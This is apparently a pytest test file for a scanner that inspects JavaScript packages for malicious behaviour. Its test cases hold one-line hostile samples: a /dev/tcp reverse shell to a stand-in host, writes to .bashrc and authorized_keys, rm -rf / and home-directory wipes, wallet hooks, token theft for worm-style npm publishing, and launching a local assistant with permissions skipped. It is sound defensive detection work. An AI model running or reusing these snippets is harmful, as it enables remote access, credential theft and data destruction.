import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import assert_only_where_it_runs, found_in


@pytest.mark.parametrize(
    ("code", "rule", "severity"),
    [
        ("exec('bash -i >& /dev/tcp/a.example/1 0>&1');", "reverse-shell", "critical"),
        (
            "const s = spawn('/bin/sh'); net.connect(1, () => { c.pipe(s.stdin); });",
            "reverse-shell",
            "critical",
        ),
        ("fs.appendFileSync(home + '/.bashrc', line);", "lasting-write", "high"),
        ("fs.writeFileSync(home + '/.ssh/authorized_keys', line);", "lasting-write", "high"),
        ("fs.rmSync(os.homedir(), { recursive: true });", "destruction", "critical"),
        ("fs.rmSync(require('os').homedir(), { recursive: true });", "destruction", "critical"),
        ("exec('rm -rf /');", "destruction", "critical"),
        (
            "if (Date.now() > 1893456000000) rm(a, { recursive: true });",
            "destruction",
            "critical",
        ),
        ("if (Date.now() > 1893456000000) go();", "date-condition", "medium"),
        (
            "if (i.resolvedOptions().timeZone === 'A/B') go();",
            "place-condition",
            "medium",
        ),
        ("if (os.hostname() === 'build') go();", "place-condition", "medium"),
        ("Module._load = function () {};", "patched-loader", "high"),
        ("globalThis.fetch = other;", "patched-global", "medium"),
        ("XMLHttpRequest.prototype.open = other;", "patched-global", "medium"),
        ("window.ethereum.request = other;", "wallet-hook", "critical"),
        ("const text = await navigator.clipboard.readText();", "clipboard", "medium"),
        ("fs.readFileSync(`/proc/${id}/environ`);", "process-memory", "high"),
        ("execSync('gh auth token'); run('npm publish'); run('npm whoami');", "worm", "critical"),
        ("spawn('trufflehog', ['filesystem']);", "worm", "medium"),
        ("spawn('claude', ['--dangerously-skip-permissions']);", "local-assistant", "high"),
    ],
)
def test_is_found_only_where_it_runs(code: str, rule: str, severity: str) -> None:
    assert_only_where_it_runs(code, rule)
    assert [str(one.severity) for one in found_in(code, rule=rule)] == [severity]


@pytest.mark.parametrize(
    "code",
    [
        "source.pipe(process.stdin);",
        "fs.rmSync(folder, { recursive: true });",
        "if (Date.now() > started + 1000) go();",
        "exports.Module = { _load: 1 };",
        "const fetch = require('./fetch');",
        "navigator.clipboard.writeText(text);",
        "console.log('Run npm publish, then git push');",
        "exec('rm -rf ./build');",
        "const name = settings.profile;",
    ],
)
def test_what_honest_packages_do_is_nothing(code: str) -> None:
    assert [one for one in found_in(code) if one.severity.is_serious] == []


def test_each_file_overwritten_in_a_walk() -> None:
    code = """
    function walk(at) {
      for (const name of fs.readdirSync(at)) {
        if (fs.statSync(name).isDirectory()) walk(name);
        else fs.writeFileSync(name, "");
      }
    }
    """
    (one,) = found_in(code, rule="destruction")
    assert (one.severity, one.line) == (Severity.HIGH, 5)
